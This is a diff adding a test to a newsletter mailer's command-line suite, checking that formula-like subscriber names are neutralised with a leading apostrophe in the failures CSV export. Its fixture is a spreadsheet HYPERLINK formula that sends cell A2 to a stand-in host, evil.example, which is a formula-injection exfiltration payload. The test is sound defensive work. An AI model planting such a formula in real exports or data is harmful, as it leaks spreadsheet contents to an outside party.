@@ -199,3 +199,25 @@ def test_a_campaign_name_too_long_for_the_column_is_one_line(mailer) -> None:
         "campaign", "create", str(ISSUE), "--list", "newsletter", "--name", "x" * 201, code=1
     )
     assert result.stderr == "error: name: at most 200 characters (201 given)\n"
+
+
+def test_failures_csv_neutralises_formulas_like_the_web_export(
+    mailer, server: SMTPTestServer, tmp_path: Path
+) -> None:
+    """A name a spreadsheet would run as a formula is written with an apostrophe before
+    it, as the web app's failures.csv does (both are `mailer.failurescsv`)."""
+    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
+    mailer("lists", "add", "newsletter")
+    mailer("subscribers", "add", "gone@example.org", "--name", formula, "--list", "newsletter")
+    mailer("subscribers", "add", "here@example.org", "--name", "+1 Somchai", "--list", "newsletter")
+    mailer("campaign", "create", str(ISSUE), "--list", "newsletter")
+    server.reject("gone@example.org", "550 5.1.1 No such user")
+    server.reject("here@example.org", "550 5.7.1 -relaying denied")
+    mailer("send", "1")
+    target = tmp_path / "failed.csv"
+    mailer("campaign", "report", "1", "--failures-csv", str(target))
+    with target.open(encoding="utf-8", newline="") as handle:
+        rows = {row["email"]: row for row in csv.DictReader(handle)}
+    assert rows["gone@example.org"]["name"] == "'" + formula
+    assert rows["here@example.org"]["name"] == "'+1 Somchai"
+    assert rows["gone@example.org"]["last_reply"] == "550 5.1.1 No such user"
